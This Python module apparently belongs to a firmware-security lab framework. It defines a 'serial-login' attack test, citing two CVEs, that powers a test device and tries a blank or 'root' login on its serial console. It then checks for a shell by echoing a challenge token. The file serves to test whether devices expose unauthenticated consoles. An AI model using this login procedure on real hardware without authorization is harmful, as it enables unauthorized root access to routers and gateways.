"""A login on the serial line, once the system runs."""

from firmward.lab.attacks import Attack, Position, Result
from firmward.lab.links import RUNNING
from firmward.lab.target import Powered, Target, Witness

STARTS = 120.0
"""Seconds in which an untouched device becomes healthy, on a busy machine too."""
TRIES = 6
EVERY = 1.5
"""Seconds between two tries."""
NAMES = ("", "root")
"""What is entered first: nothing, to wake a console that waits for a key, or the name of who has no password."""


def run(target: Target) -> Result:
    with target.power() as powered:
        powered.await_healthy(STARTS)
        target.note(Witness.ATTACKER, "presses Enter on the serial line, enters names and commands")
        _press(powered)
        return powered.verdict(ATTACK.within)


def _press(powered: Powered) -> None:
    for attempt in range(TRIES):
        powered.type(f"{NAMES[attempt % len(NAMES)]}\r")
        powered.hear(EVERY)
        powered.type(f"echo {powered.target.challenge.shell}\r")
        if powered.until(powered.answers, EVERY):
            return


ATTACK = Attack(
    id="serial-login",
    title="A shell on the serial line",
    does="connects to the serial pins of a running device, and logs in there",
    position=Position.HAND,
    link=RUNNING,
    case="CVE-2022-45553, CVE-2025-26409: a router and a gateway whose serial pins give a shell",
    foretold=("serial-login",),
    run=run,
    within=60.0,
)
